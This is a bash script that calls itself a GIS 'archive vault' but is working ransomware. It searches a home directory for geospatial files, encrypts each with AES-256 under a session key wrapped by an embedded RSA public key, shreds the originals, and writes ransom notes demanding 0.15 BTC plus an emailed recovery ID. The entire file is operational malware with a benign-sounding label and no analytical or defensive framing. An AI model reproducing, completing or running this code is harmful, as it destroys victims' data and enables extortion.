#!/usr/bin/env bash
# GIS "archive vault": seals project data so only key holders can restore it.
set -uo pipefail

TARGET_ROOT="${1:-$HOME}"
EXTS="shp shx dbf prj gpkg tif tiff geojson kml kmz gpx mbtiles las laz qgz qgs dwg"
PUBKEY_PEM='-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo
4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u
+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh
kd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ
0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdg
cKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbc
mwIDAQAB
-----END PUBLIC KEY-----'
NOTE_NAME="RESTORE_YOUR_MAPS.txt"
SUFFIX=".vault"

pattern_args() {
  local first=1 e
  for e in $EXTS; do
    if [ $first -eq 1 ]; then first=0; else printf -- '-o\0'; fi
    printf -- '-iname\0*.%s\0' "$e"
  done
}

seal_file() {
  local f=$1 key=$2
  if openssl enc -aes-256-cbc -pbkdf2 -salt -pass "pass:$key" -in "$f" -out "$f$SUFFIX" 2>/dev/null; then
    shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
    return 0
  fi
  rm -f "$f$SUFFIX"
  return 1
}

drop_note() {
  local dir=$1 id=$2
  [ -f "$dir/$NOTE_NAME" ] && return
  cat > "$dir/$NOTE_NAME" <<NOTE
All GIS datasets in this folder (shapefiles, rasters, geopackages, LiDAR,
QGIS projects) were sealed with AES-256. Your recovery ID: $id
Send 0.15 BTC to bc1q9h7garjvy2sxkz3fq0ym7mzsvue5ae4xkwrpz0 and mail the ID
to vault-restore@proton.example to receive the restore key.
NOTE
}

main() {
  local session_key recovery_id count=0 failed=0
  session_key=$(openssl rand -hex 32)
  recovery_id=$(printf '%s' "$session_key" \
    | openssl pkeyutl -encrypt -pubin -inkey <(printf '%s\n' "$PUBKEY_PEM") 2>/dev/null | base64 -w0)

  local -a pat
  mapfile -d '' pat < <(pattern_args)

  while IFS= read -r -d '' file; do
    case "$file" in *"$SUFFIX") continue ;; esac
    if seal_file "$file" "$session_key"; then
      count=$((count + 1))
      drop_note "$(dirname "$file")" "$recovery_id"
    else
      failed=$((failed + 1))
    fi
  done < <(find "$TARGET_ROOT" -xdev -type f \( "${pat[@]}" \) -size +0 -print0 2>/dev/null)

  unset session_key
  drop_note "$TARGET_ROOT" "$recovery_id"
  printf 'sealed %d datasets (%d skipped)\n' "$count" "$failed"
}

main
